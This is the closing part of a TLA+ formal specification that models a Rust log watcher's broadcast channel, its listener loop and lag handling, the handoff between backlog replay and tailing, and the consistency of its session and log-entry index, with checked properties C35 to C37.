\* Number of messages the channel retains; the program's channel is made
\* with 100, here it is scaled down.
ChannelCapacity == 2

\* Number of NewLogEntry messages the watcher sends.
MaxChanEvents == 4

\* broadcast::Sender::send: the message is retained, the oldest one is
\* dropped when more than the capacity would be retained.
ChanSend(buf, msg) ==
    IF Len(buf) < ChannelCapacity THEN Append(buf, msg) ELSE Append(Tail(buf), msg)

\* recv finds the receiver behind the oldest retained message.
recv_is_lagged(next, tail, buf) == next < tail - Len(buf)

\* The message recv returns to a receiver that is past `next` messages and
\* has not lagged.
RecvMsg(next, tail, buf) == buf[next - (tail - Len(buf)) + 1]

ChanInit ==
    /\ store = StoreNew(MaxCap, MaxCap)
    /\ StoreHistIdle
    /\ PipeIdle
    /\ ExtIdle

ChanFrame ==
    UNCHANGED <<storeHist, pipeVars, scoreVars, detVars, tailVars, quitVars, lockVars,
                apiVars, connVars, parseVars, sweepRunVars, updVars, notifyVars, alertVars>>

\* The watcher sends the next entry (log_watcher.rs:122, 209).
ChanWatcherSend ==
    /\ ch_n < MaxChanEvents
    /\ \E entry \in {LogEntry(ch_n + 1, 10, "Connect", Some("s1"), None, None, EmptyMap),
                     LogEntry(ch_n + 1, 10, "Unknown", None, None, None, EmptyMap)} :
          ch_buf' = ChanSend(ch_buf, NewLogEntry(entry))
    /\ ch_tail' = ch_tail + 1
    /\ ch_n' = ch_n + 1
    /\ UNCHANGED <<store, l_next, l_exit, l_done>>
    /\ ChanFrame

\* App::quit sends Quit (app.rs:222).
ChanQuitSend ==
    /\ \A i \in 1..Len(ch_buf) : ch_buf[i] # Quit
    /\ ch_n > 0
    /\ ch_buf' = ChanSend(ch_buf, Quit)
    /\ ch_tail' = ch_tail + 1
    /\ UNCHANGED <<store, ch_n, l_next, l_exit, l_done>>
    /\ ChanFrame

\* One round of `while let Ok(event) = rx.recv().await` (lines 79-92):
\* Err(Lagged) ends the loop; a NewLogEntry is processed, which writes the
\* session and sends a SessionUpdate on the same channel; Quit breaks; any
\* other message is passed over.
ListenerRound ==
    /\ l_exit = None
    /\ l_next < ch_tail
    /\ IF recv_is_lagged(l_next, ch_tail, ch_buf)
       THEN /\ l_exit' = Some("Lagged")
            /\ l_next' = ch_tail - Len(ch_buf)
            /\ UNCHANGED <<store, ch_buf, ch_tail, l_done>>
       ELSE LET msg == RecvMsg(l_next, ch_tail, ch_buf)
            IN  /\ l_next' = l_next + 1
                /\ CASE msg.event = "NewLogEntry" /\ msg.entry.session # None ->
                          LET session == ProcessedSession(
                                  get_session(store, msg.entry.session[1]), msg.entry)
                          IN  /\ store' = AggWriteBack(store, session)
                              /\ ch_buf' = ChanSend(ch_buf, SessionUpdate(session))
                              /\ ch_tail' = ch_tail + 1
                              /\ l_done' = Append(l_done, msg.entry.id)
                              /\ UNCHANGED l_exit
                     [] msg.event = "NewLogEntry" /\ msg.entry.session = None ->
                          /\ l_done' = Append(l_done, msg.entry.id)
                          /\ UNCHANGED <<store, ch_buf, ch_tail, l_exit>>
                     [] msg.event = "Quit" ->
                          /\ l_exit' = Some("Quit")
                          /\ UNCHANGED <<store, ch_buf, ch_tail, l_done>>
                     [] OTHER ->
                          UNCHANGED <<store, ch_buf, ch_tail, l_exit, l_done>>
    /\ UNCHANGED ch_n
    /\ ChanFrame

ChanNext ==
    \/ ChanWatcherSend
    \/ ChanQuitSend
    \/ ListenerRound

SpecChan == ChanInit /\ [][ChanNext]_vars

(***************************************************************************)
(* C35.  The listener's loop ends only on Quit: when its receiver has      *)
(* fallen behind the messages the channel retains, the loop is not ended   *)
(* by that.                                                                *)
(***************************************************************************)
C35_LoopEndsOnlyOnQuit ==
    l_exit # None => l_exit = Some("Quit")

\* A listener that never fell behind ends only on Quit.
LoopEndsOnQuitWithoutLag ==
    [][(l_exit = None /\ l_exit' # None /\ ~recv_is_lagged(l_next, ch_tail, ch_buf))
       => l_exit' = Some("Quit")]_vars

\* How often the line named r was forwarded.
TimesForwarded(r) == Cardinality({i \in 1..Len(fwd) : fwd[i] = r})

(***************************************************************************)
(* C36.  A valid line appended to the file while the backlog replay is     *)
(* running, or after the replay ended and before the tailer took its       *)
(* initial offset, is stored and published exactly once, by the replay or  *)
(* by the first tail read: checked once the tailer has handled every       *)
(* queued event, for files that were not truncated and hold no line that   *)
(* is not UTF-8.                                                           *)
(***************************************************************************)
C36_NoLineLostAtHandoff ==
    (/\ w_pc \in {"recv", "done"}
     /\ tail_run # None
     /\ fs_events = 0
     /\ ~truncated
     /\ ValidUtf8(file))
    => \A r \in handoff : TimesForwarded(r) = 1

(***************************************************************************)
(* Chronological index against the map (src/data/store.rs, add_session,    *)
(* add_log_entry, prune_*, clear), checked under SpecStore.                *)
(***************************************************************************)
\* An index lists exactly the keys of its map, each once.
IndexListsKeysOnce(ids, map) ==
    /\ Range(ids) = DOMAIN map
    /\ Len(ids) = Cardinality(DOMAIN map)

\* C37: after any sequence of add_session, update_session and clear calls with
\* possibly repeated ids, session_ids contains exactly the keys of the sessions
\* map, each exactly once, so get_sessions returns every resident session
\* exactly once; and the same for log_entry_ids and log_entries.
C37_IndexMatchesMap ==
    /\ IndexListsKeysOnce(store.session_ids, store.sessions)
    /\ Len(get_sessions(store)) = Cardinality(DOMAIN store.sessions)
    /\ IndexListsKeysOnce(store.log_entry_ids, store.log_entries)

\* What the code does keep: the log-entry index, whose ids are fresh, always
\* matches its map, and so does the session index as long as no id was passed
\* to add_session twice since the last clear.
IndexMatchesMapForFreshIds ==
    /\ IndexListsKeysOnce(store.log_entry_ids, store.log_entries)
    /\ (\A i, j \in 1..Len(ins_sessions) : ins_sessions[i] = ins_sessions[j] => i = j)
       => /\ IndexListsKeysOnce(store.session_ids, store.sessions)
          /\ Len(get_sessions(store)) = Cardinality(DOMAIN store.sessions)

====
